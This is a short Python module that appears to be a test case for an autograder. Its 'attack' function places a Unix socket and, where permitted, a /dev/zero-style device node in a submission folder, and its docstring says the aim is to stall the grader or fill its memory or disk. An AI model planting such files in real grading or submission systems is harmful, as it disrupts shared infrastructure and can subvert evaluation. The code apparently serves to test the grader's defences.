"""Hands in a socket and, where the file system lets it, a device that never ends.

Would hold up the grader or fill its memory or its disk.

Plain nbgrader: fills the disk with a copy that has no end, and is not graded.
"""

import contextlib
import os
import socket
import stat


def attack(folder, places):
    here = os.getcwd()
    os.chdir(folder)  # the name of a socket must be short
    try:
        with socket.socket(socket.AF_UNIX) as end:
            end.bind("data.sock")
    finally:
        os.chdir(here)
    with contextlib.suppress(OSError):
        os.mknod(folder / "zeros", 0o644 | stat.S_IFCHR, os.makedev(1, 5))
